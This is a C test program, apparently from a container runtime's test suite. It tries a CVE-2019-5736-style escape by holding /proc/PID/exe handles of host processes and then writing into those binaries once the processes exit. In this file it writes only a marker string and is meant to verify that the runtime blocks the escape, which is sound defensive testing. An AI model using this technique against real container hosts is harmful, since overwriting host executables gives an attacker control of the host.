/* The attacker of Tests/IntegrationTests/ExeEscapeTests.swift and Scripts/vm/checks/76-oci-exe-escape.sh
 * (CVE-2019-5736 class): run inside a container, it holds /proc/PID/exe of every process it can open
 * (other than files of the container's own root filesystem) and writes a marker into any it can
 * reopen for writing once that process has exited. Prints HELD/ESCAPED lines; exits 0 after an
 * escape, 1 after argv[1] seconds. Built statically by the tests; never part of Berth. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static int held[256], nheld; static dev_t devs[256]; static ino_t inos[256];
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int argc, char **argv) {
    double end = now() + (argc > 1 ? atof(argv[1]) : 30);
    pid_t self = getpid(); char path[64], target[256];
    struct stat root; stat("/", &root); /* the container's own files are its to change */
    while (now() < end) {
        DIR *d = opendir("/proc"); struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            int pid = atoi(e->d_name); if (pid == self) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC); if (fd < 0) continue;
            struct stat st; int dup = fstat(fd, &st) < 0 || nheld >= 256 || st.st_dev == root.st_dev;
            for (int i = 0; !dup && i < nheld; i++) dup = devs[i] == st.st_dev && inos[i] == st.st_ino;
            if (dup) { close(fd); continue; }
            devs[nheld] = st.st_dev; inos[nheld] = st.st_ino; held[nheld++] = fd;
            memset(target, 0, sizeof target); snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            if (readlink(path, target, 255) < 0) strcpy(target, "?");
            printf("HELD pid %d exe %s\n", pid, target); fflush(stdout);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC); if (w < 0) continue;
            memset(target, 0, sizeof target); readlink(path, target, 255);
            if (lseek(w, 0, SEEK_END) >= 0 && write(w, "BERTH-ESCAPE", 12) == 12) {
                printf("ESCAPED wrote %s\n", target); fflush(stdout); return 0;
            }
            close(w);
        }
    }
    printf("NOESCAPE held %d\n", nheld); fflush(stdout); return 1;
}
